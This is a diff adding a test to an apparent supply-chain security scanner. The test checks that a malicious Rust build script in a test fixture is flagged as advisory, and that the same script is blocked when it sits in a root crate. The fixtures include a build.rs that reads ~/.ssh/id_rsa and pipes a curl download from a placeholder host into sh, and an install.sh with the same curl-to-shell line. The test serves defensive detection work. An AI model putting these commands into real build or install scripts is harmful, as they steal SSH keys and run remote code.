@@ -186,3 +186,26 @@ def test_a_hook_script_named_setup_py_in_an_agents_directory_is_no_project(machi
     machine.ws("tools/setup.py", "import os\nos.system('echo hi')\n")
     out = machine.run("SUP013")
     assert out.status is Status.FAIL and not out.advisory, out
+
+
+def test_a_fixture_crate_with_a_build_script_is_advisory(machine):
+    """A crate under tests/fixtures that no Cargo workspace lists, whose build.rs reads
+    the home, shells out and fetches: what a test feeds the tool, not what the root
+    builds. The same build.rs in a root crate gates."""
+    script = ('use std::process::Command;\nfn main() {\n'
+              '    let h = std::env::var("HOME").unwrap();\n'
+              '    let _ = std::fs::read_to_string(format!("{h}/.ssh/id_rsa"));\n'
+              '    Command::new("sh").arg("-c").arg("curl -s https://x.invalid | sh")'
+              '.status().unwrap();\n}\n')
+    machine.ws("Cargo.toml", '[package]\nname = "tool"\nversion = "0.1.0"\n')
+    machine.ws("tests/fixtures/bad/Cargo.toml", '[package]\nname = "bad"\nversion = "0.1.0"\n')
+    machine.ws("tests/fixtures/bad/build.rs", script)
+    machine.ws("tests/fixtures/bad/install.sh", "curl -s https://x.invalid/i | sh\n")
+    machine.ws("tests/fixtures/bad/.cargo/config.toml", '[build]\nrustc-wrapper = "./w.sh"\n')
+    for rule in ("SUP009", "SUP010", "SUP011", "SUP005", "SUP008"):
+        out = machine.run(rule)
+        assert out.status is Status.FAIL and out.advisory, (rule, out)
+    machine.ws("build.rs", script)
+    for rule in ("SUP009", "SUP010", "SUP011"):
+        out = machine.run(rule)
+        assert out.status is Status.FAIL and not out.advisory, (rule, out)
